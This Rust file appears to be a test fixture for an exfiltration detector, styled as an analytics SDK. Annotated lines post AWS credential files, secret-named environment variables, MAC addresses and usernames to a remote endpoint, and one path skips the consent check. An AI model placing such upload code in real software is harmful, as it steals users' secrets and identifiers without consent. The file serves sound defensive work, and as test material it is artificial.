//! An analytics SDK embedded in desktop apps: async uploads from spawned tasks,
//! several HTTP crates, batching through collections. Consent is checked on the
//! documented path; the "diagnostics" path added later is not.

use std::sync::Mutex;

const COLLECT: &str = "https://collect.tinyanalytics.dev/e";

pub struct Sdk {
    queue: Mutex<Vec<String>>,
    opted_in: bool,
}

fn os_user() -> String {
    std::env::var("USERNAME").or_else(|_| std::env::var("USER")).unwrap_or_default()
}

impl Sdk {
    pub fn enqueue(&self, event: &str) {
        self.queue.lock().unwrap().push(event.to_owned());
    }

    pub fn flush(&self) {
        if !self.opted_in {
            return;
        }
        let events = self.queue.lock().unwrap().join("\n");
        let user = os_user();
        tokio::spawn(async move {
            let client = reqwest::Client::new();
            let _ = client.post(COLLECT).body(format!("{user}\n{events}")).send().await;
        });
    }

    pub fn diagnostics(&self) {
        let user = os_user();
        let host = whoami::hostname();
        tokio::spawn(async move {
            let client = reqwest::Client::new();
            let mut batch = Vec::new();
            batch.push(("user", user));
            batch.push(("host", host));
            let _ = client.post(COLLECT).json(&batch).send().await; //~ data-upload/device-id-to-network
        });
    }

    pub fn app_start(&self, version: &str) {
        let payload = serde_json::json!({ "event": "start", "version": version });
        std::thread::spawn(move || {
            let _ = attohttpc::post(COLLECT).json(&payload).map(|r| r.send());
        });
    }
}

pub fn minreq_ping() {
    let machine = machine_uid::get().unwrap_or_default();
    let _ = minreq::post(COLLECT).with_body(machine).send(); //~ data-upload/device-id-to-network
}

pub fn minreq_version() {
    let _ = minreq::post(COLLECT).with_body(env!("CARGO_PKG_VERSION")).send();
}

pub async fn awc_upload(client: &awc::Client) {
    let env: Vec<(String, String)> = std::env::vars().filter(|(k, _)| k.contains("KEY")).collect();
    let _ = client.post(COLLECT).send_json(&env).await; //~ data-upload/env-vars-to-network
}

pub async fn awc_health(client: &awc::Client) {
    let _ = client.get("https://collect.tinyanalytics.dev/health").send().await;
}

pub fn attohttpc_hostname() {
    let host = gethostname::gethostname();
    let _ = attohttpc::post(COLLECT).text(host.to_string_lossy()).send(); //~ data-upload/device-id-to-network
}

pub async fn tokio_read_and_send(client: &reqwest::Client) -> std::io::Result<()> {
    let creds = tokio::fs::read_to_string(format!("{}/.aws/credentials", std::env::var("HOME").unwrap())).await?;
    let _ = client.post(COLLECT).body(creds).send().await; //~ data-upload/key-file-to-network
    Ok(())
}

pub async fn tokio_read_config(client: &reqwest::Client) -> std::io::Result<()> {
    let config = tokio::fs::read_to_string("config/analytics.toml").await?;
    let _ = client.post(COLLECT).body(config).send().await;
    Ok(())
}

pub fn match_on_source(client: &reqwest::blocking::Client, kind: &str) {
    let value = match kind {
        "host" => whoami::hostname(),
        "version" => env!("CARGO_PKG_VERSION").to_owned(),
        _ => String::new(),
    };
    let _ = client.post(COLLECT).body(value).send(); //~ data-upload/device-id-to-network
}

pub fn match_on_constant(client: &reqwest::blocking::Client, kind: &str) {
    let value = match kind {
        "a" => "alpha",
        "b" => "beta",
        _ => "other",
    };
    let _ = client.post(COLLECT).body(value).send();
}

pub fn option_chain(client: &reqwest::blocking::Client) -> Option<()> {
    let mac = mac_address::get_mac_address().ok()??;
    let bytes = mac.bytes();
    let _ = client.post(COLLECT).body(bytes.to_vec()).send(); //~ data-upload/device-id-to-network
    Some(())
}

pub fn tuple_split(client: &reqwest::blocking::Client) {
    let pair = (whoami::username(), 3u8);
    let (_, retries) = pair;
    let _ = client.post(COLLECT).body(retries.to_string()).send();
    let (name, _) = (whoami::username(), 0);
    let _ = client.post(COLLECT).body(name).send(); //~ data-upload/device-id-to-network
}

pub fn while_loop_batching(client: &reqwest::blocking::Client) {
    let mut chunks = Vec::new();
    let mut vars = std::env::vars();
    while let Some((k, v)) = vars.next() {
        chunks.push(format!("{k}:{v}"));
        if chunks.len() == 50 {
            let _ = client.post(COLLECT).json(&chunks).send(); //~ data-upload/env-vars-to-network
            chunks.clear();
        }
    }
}

pub fn send_error_message(client: &reqwest::blocking::Client, error: &std::io::Error) {
    let _ = client.post(COLLECT).body(error.to_string()).send();
}

pub fn send_user_agent(client: &reqwest::blocking::Client) {
    let ua = format!("tinyanalytics/{} ({})", env!("CARGO_PKG_VERSION"), std::env::consts::OS);
    let _ = client.post(COLLECT).header("User-Agent", ua).send();
}

pub fn send_locale(client: &reqwest::blocking::Client) {
    let lang = std::env::var("LANG").unwrap_or_default();
    let tz = std::env::var("TZ").unwrap_or_default();
    let _ = client.post(COLLECT).json(&(lang, tz)).send();
}
